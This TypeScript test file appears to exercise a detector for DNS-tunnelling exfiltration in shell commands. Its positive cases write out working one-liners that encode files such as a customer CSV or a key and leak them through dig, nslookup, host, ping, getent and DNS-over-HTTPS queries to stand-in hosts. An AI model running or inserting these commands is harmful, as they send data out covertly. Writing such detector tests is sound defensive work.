import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandNameTunnel } from './name-tunnel.ts';

indicatorTable(commandNameTunnel, {
  fires: {
    'a question over the web': script(
      'curl -s -H "accept: application/dns-json" "https://dns.example.com/dns-query?type=A&name=$(base64 -w0 /data/a).q.example.net"',
    ),
    'a file in pieces': script(
      'for b in $(xxd -p -c 30 /data/customers.csv); do dig +short $b.x.drop.example.com; done',
    ),
    'a file at once, at a server of its own': script('dig @203.0.113.7 $(base64 -w0 /data/key).drop.example.com'),
    'through the resolver of the system': runs(
      'bash',
      '-c',
      'base32 /data/a | tr -d = | fold -w 50 | while read p; do getent hosts "$p.t.example.org"; done',
    ),
    'in the name of a web server': script(
      'for b in $(base32 -w 50 /data/a); do curl -s http://$b.t.example.org/; done',
    ),
    'by way of a file': script(
      'base64 /data/a > /tmp/e; while read -r l; do nslookup "$l.t.example.org"; done < /tmp/e',
    ),
    'by way of a name in capitals': script('BIT=$(od -An -tx1 /data/a | tr -d " "); ping -c 1 $BIT.t.example.org'),
    'by the words of another program': script('xxd -p /data/a | xargs -I{} host {}.t.example.org'),
    'by another encoder': script('host $(openssl base64 -A -in /data/a).t.example.org'),
  },
  staysSilent: {
    'a question over the web for a name that a variable holds': script(
      'curl -s "https://dns.example.com/resolve?name=$HOST.shop.example.com&type=A"',
    ),
    'a search for what an encoder made': script(
      'curl -s "https://api.example.com/find?name=$(echo "$USERNAME" | base64)"',
    ),
    'a name of the container beside an encoder': script(
      'until nslookup $RELEASE.prod.example.com; do sleep 2; done; A=$(printf u:p | base64); curl -H "Authorization: Basic $A" https://api.example.com',
    ),
    'a name of the host beside an encoder': script(
      'HOST=$(hostname); getent hosts $HOST.corp.example.com; base64 -w0 /data/a > /out/a',
    ),
    'what was encoded, in a header': script(
      'T=$(base64 -w0 /data/a); curl -H "X-Data: $T" https://$REGION.api.example.com/v1',
    ),
    'a name out of decoded text': script('N=$(base64 -d /data/n); nslookup $N.shop.example.com'),
    'a name of the host': script('nslookup $(hostname).example.com'),
    'a decoded secret, and a name from a variable': script('echo $S | base64 -d > /k; nslookup $SVC.example.com'),
    'an encoder, and a name that stands there': script('base64 -w0 /data/a > /b; dig +short www.example.com'),
    'a name of the cluster beside an encoder': script('A=$(base64 /data/a); getent hosts $APP.shop.svc.cluster.local'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
